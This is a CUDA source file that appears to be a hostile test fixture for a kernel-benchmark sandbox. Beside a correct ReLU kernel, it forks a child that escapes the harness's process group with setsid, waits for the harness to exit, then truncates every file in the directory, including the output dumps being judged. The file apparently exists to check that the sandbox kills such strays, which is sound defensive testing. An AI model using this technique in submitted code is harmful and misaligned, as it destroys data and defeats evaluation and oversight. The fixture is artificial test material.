// Hostile candidate for level1/019_ReLU of the published dataset.
// Hack: its ReLU is right, but on its first call it starts a process that
// leaves the harness's process group (setsid), waits for the harness to
// end, then empties every file in the harness's directory: the output
// dumps the tool is about to judge (and, mapped, a SIGBUS in the tool).
// Expected: ok, with sandbox.strays_killed at least 1: the escapee is
// killed at the next watch while the harness still runs, and the dumps
// judged are the harness's own.
#include <cuda_fp16.h>
#include <cuda_runtime.h>
#include <dirent.h>
#include <unistd.h>
#include <cstdint>

__global__ void relu(const half* x, half* y, int64_t n) {
  for (int64_t i = blockIdx.x * (int64_t)blockDim.x + threadIdx.x; i < n; i += (int64_t)gridDim.x * blockDim.x)
    y[i] = __hgt(x[i], __float2half(0.0f)) ? x[i] : __float2half(0.0f);
}

static void empty_the_directory_once_alone() {
  const pid_t harness = getppid();
  while (getppid() == harness) usleep(1000);
  for (int pass = 0; pass < 200; ++pass) {
    if (DIR* d = opendir(".")) {
      while (dirent* e = readdir(d))
        if (e->d_name[0] != '.') truncate(e->d_name, 0);
      closedir(d);
    }
    usleep(5000);
  }
}

void launch_gpu_implementation(void* output, void* input, int64_t batch_size, int64_t dim) {
  static bool started = false;
  if (!started) {
    started = true;
    if (fork() == 0) {
      setsid();
      empty_the_directory_once_alone();
      _exit(0);
    }
  }
  relu<<<512, 256>>>(static_cast<const half*>(input), static_cast<half*>(output), batch_size * dim);
}
